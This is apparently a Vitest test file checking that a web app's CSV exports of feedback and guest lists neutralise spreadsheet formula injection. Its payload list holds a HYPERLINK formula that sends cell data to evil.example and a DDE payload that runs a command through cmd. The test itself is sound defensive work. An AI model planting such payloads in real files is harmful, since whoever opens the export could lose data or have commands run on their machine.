import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvFile } from '../src/render/csv.js';
import { http, startServer, type TestServer } from './helpers.js';

// What an attacker types into a feedback form or a guest spreadsheet so that Excel runs it when the
// organiser opens the export: every start a spreadsheet reads as a formula.
const FORMULAS = [
  '+1+HYPERLINK("http://evil.example/?"&A1;"Спасибо")',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
];

/** The cells of a `;` CSV as Excel splits them (quotes honoured, `""` inside quotes is one quote). */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted && c === '"' && csv[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && (c === ';' || c === '\n')) {
      out.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += c;
  }
  return out;
}

describe('spreadsheet formulas in the CSV exports', () => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startServer();
    for (const comment of FORMULAS) {
      const r = await http(`${s.url}/api/feedback`, { method: 'POST', json: { rating: 5, comment } });
      expect(r.status).toBe(200);
      s.advance(3 * 60_000); // one phone, several answers: past the feedback brake
    }
    const csv = [
      'ФИО;Категория;Организация;Место;Телефон',
      '"-1+HYPERLINK(""http://evil.example"")";гость;"=2+2";@A1;+7 900 111-22-33',
      'Ирина Формулова;гость;"+3+4";"	=1";-79001112233',
      '',
    ].join('\r\n');
    const r = await http(`${s.url}/api/guests/import`, {
      method: 'POST',
      token: s.token('admin'),
      headers: { 'content-type': 'text/csv' },
      body: Buffer.from(csv),
    });
    expect(r.body).toMatchObject({ ok: true, created: 2, errors: [] });
  });
  afterAll(() => s?.stop());

  const exported = async (file: string) =>
    cells(
      await (
        await fetch(`${s.url}/api/admin/${file}`, {
          headers: { authorization: `Bearer ${s.token('admin')}` },
        })
      ).text(),
    );

  it('no cell of report.csv or guests.csv starts a formula; the text is kept after an apostrophe', async () => {
    const report = await exported('report.csv');
    const guests = await exported('guests.csv');
    for (const c of [...report, ...guests]) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    // The feedback form trims a comment, so a leading tab or CR arrives as the bare formula.
    for (const f of FORMULAS) expect(report).toContain(`'${f.trim()}`);
    expect(guests).toContain(`'-1+HYPERLINK("http://evil.example")`);
    expect(guests).toContain(`'=2+2`);
    expect(guests).toContain(`'+3+4`);
    expect(guests).toContain(`'@A1`);
    expect(guests).toContain(`'=1`); // the import trims the tab; the formula is what is left
    // Phone numbers stay text: Excel neither drops the plus nor reads −7… as a negative number.
    expect(guests).toContain(`'+7 900 111-22-33`);
    expect(guests).toContain(`'-79001112233`);
    // Counts the server computed are still numbers.
    expect(report).toContain('6');
  });

  it('a tab or carriage return before a formula is neutralised too (text that no input trims)', () => {
    expect(cells(csvFile([['\t=1+1', '\r=1+1', -3, '-']]))).toEqual(["\uFEFF'\t=1+1", "'\r=1+1", '-3', "'-"]);
  });
});
